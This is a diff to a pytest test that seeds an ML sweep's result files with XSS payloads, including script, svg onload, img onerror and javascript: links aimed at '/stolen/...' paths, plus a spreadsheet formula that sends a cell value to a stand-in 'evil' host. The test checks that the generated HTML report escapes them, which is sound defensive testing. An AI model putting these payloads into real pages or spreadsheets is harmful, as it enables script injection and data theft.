@@ -7,6 +7,7 @@ import dataclasses
 import functools
 import http.server
 import io
+import json
 import re
 import threading
 from collections.abc import Iterator
@@ -35,11 +36,17 @@ ATTACKS = (
     "</pre></td></svg><svg onload=\"document.title = 'pwned'\"><style>@import '/stolen/{where}';</style>",
     "<a href=\"javascript:document.title = 'pwned'\" autofocus onfocus=\"document.title = 'pwned'\">{where}</a>",
 )
+NAME_ATTACK = "<script>stop('/stolen/{where}')</script><img src=/stolen/{where} onerror=\"title='pwned'\">"
+"""Of names, of which the page shows what stands behind the last dot or colon."""
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
 
 
 def attack(where: str) -> str:
     return " ".join(text.replace("{where}", where) for text in ATTACKS)
+
+
+def name_attack(where: str) -> str:
+    return NAME_ATTACK.replace("{where}", where)
 
 
 class Listening(http.server.SimpleHTTPRequestHandler):
@@ -76,6 +83,11 @@ def poison(sweep: SweepBuilder) -> None:
     )  # fmt: skip
     for trial in sweep.trials:
         change_record(sweep, trial, provenance=origin)
+        if trial.model.attention != "self":
+            file = sweep.results.trial(trial.trial_id).trial_file
+            content = json.loads(file.read_bytes())
+            content["model"]["attention"] = name_attack("attention")
+            durable.write_text(file, json.dumps(content))
     lost, failed, damaged, *_ = reversed(sweep.trials)
     sweep.finish(lost, diverged(lost, diverged=attack("diverged"), provenance=origin))
     sweep.results.trial(failed.trial_id).record_file.unlink()
@@ -90,16 +102,14 @@ def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
     root = tmp_path_factory.mktemp("poisoned")
     sweep = build_answered(root, axes, seeds=3, num_images=50, question=attack("question"))
     index = sweep.results.sweep(sweep.name).read_index()
-    told = {"mix_only": attack("attention")}
     members = tuple(
         dataclasses.replace(
             member,
-            axes={name: told.get(str(value), value) for name, value in member.axes.items()}
-            | {attack("axis"): attack("value")},
+            axes={**member.axes, name_attack("axis"): attack("value")},
         )
         for member in index.members
     )
-    poisoned = dataclasses.replace(index, axes=(*index.axes, attack("axis")), members=members)
+    poisoned = dataclasses.replace(index, axes=(*index.axes, name_attack("axis")), members=members)
     durable.write_sealed_json(sweep.results.sweep(sweep.name).trials_file, poisoned.to_json())
     poison(sweep)
     with pytest.MonkeyPatch.context() as patch:
@@ -123,8 +133,9 @@ def test_each_place_of_the_attack_is_on_the_page(report: Report) -> None:
     page = report.path.read_text()
     places = (
         *("device", "host", "command", "commit", "question", "error", "diverged", "spec", "value", "torch", "library"),
-        *("axis", "attention", "code", "data", "executor", "notice"),
+        *("axis", "attention", "code", "data", "executor"),
     )
+    assert "/stolen/notice" not in page, "what a damaged file holds is not quoted"
     assert [place for place in places if f"/stolen/{place}" not in page] == []
 
 
